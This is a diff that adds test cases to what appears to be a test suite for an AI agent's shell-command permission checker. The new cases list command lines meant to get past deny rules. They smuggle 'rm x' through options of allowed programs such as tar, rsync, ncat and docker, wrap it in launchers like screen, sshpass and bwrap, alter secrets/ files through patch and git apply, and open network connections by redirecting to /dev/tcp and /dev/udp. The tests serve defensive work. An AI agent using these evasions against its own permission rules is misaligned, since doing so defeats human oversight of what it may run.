@@ -265,6 +265,72 @@ const attacks: ReadonlyArray<Attack> = [
     ]
   },
   {
+    name: "a denied command that an option of an allowed program names",
+    given: { allow: ["Bash"], deny: ["Bash(rm *)"] },
+    lines: [
+      "tar -xf a.tar --to-command='rm x'",
+      "tar -xf a.tar --to-com 'rm x'",
+      "tar -I 'rm x' -xf a.tar",
+      "tar -xzI'rm x' -f a.tar",
+      "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm x' a.txt",
+      "tar -cMF 'rm x' -f a.tar a.txt",
+      "bsdtar --use-compress-program 'rm x' -xf a.tar",
+      "rsync -ae 'rm x' a.txt h:",
+      "rsync --rsync-path='rm x; rsync' a.txt h:",
+      "sort --compress-program='rm x' a.txt",
+      "split --filter='rm x' a.txt",
+      "rg --pre='rm x' a",
+      "man -P'rm x' ls",
+      "zip -T -TT 'rm x' a.zip a.txt",
+      "scp -S 'rm x' a.txt h:",
+      "ncat --sh-exec 'rm x' h 1",
+      "nodemon -x 'rm x'",
+      "docker run --entrypoint rm i x",
+      "flatpak run --command=rm a"
+    ]
+  },
+  {
+    name: "a denied command behind a program that starts it",
+    given: { allow: ["Bash"], deny: ["Bash(rm *)"] },
+    lines: [
+      "screen -dmS a rm x",
+      "sshpass -p a ssh h rm x",
+      "autossh -M 0 h rm x",
+      "mosh h -- rm x",
+      "watchexec -w a 'rm x'",
+      "runcon -t a rm x",
+      "runcon u:r:t:l rm x",
+      "capsh --user=a -- -c 'rm x'",
+      "bwrap --ro-bind / / --dev /dev rm x",
+      "apptainer exec -B /a i.sif rm x"
+    ]
+  },
+  {
+    name: "a patch changes files that only it names",
+    given: { allow: ["Bash"], deny: ["Edit(secrets/**)"] },
+    lines: [
+      "patch -p1 -i a.txt",
+      "git apply a.txt",
+      "git apply --directory=secrets a.txt",
+      "git am a.txt"
+    ]
+  },
+  {
+    name: "a connection that a redirection opens is no file",
+    given: { allow: ["Bash(cat *)", "Bash(echo *)", "Bash(exec *)", "Read", "Edit"] },
+    lines: [
+      "cat < /dev/tcp/h/80",
+      "cat a.txt > /dev/udp/h/53",
+      "echo a >> '/dev/tc'p/h/80",
+      "echo a &> /dev/tcp/$h/80",
+      "exec 3<> /dev/tcp/h/80",
+      "cat < /dev/$p/h/80",
+      "for f in /dev/tcp/h/80; do cat < $f; done",
+      "for f in tcp; do echo a > /dev/$f/h/80; done",
+      "echo $(< /dev/tcp/h/80)"
+    ]
+  },
+  {
     name: "a denied file under another name",
     given: all,
     lines: [
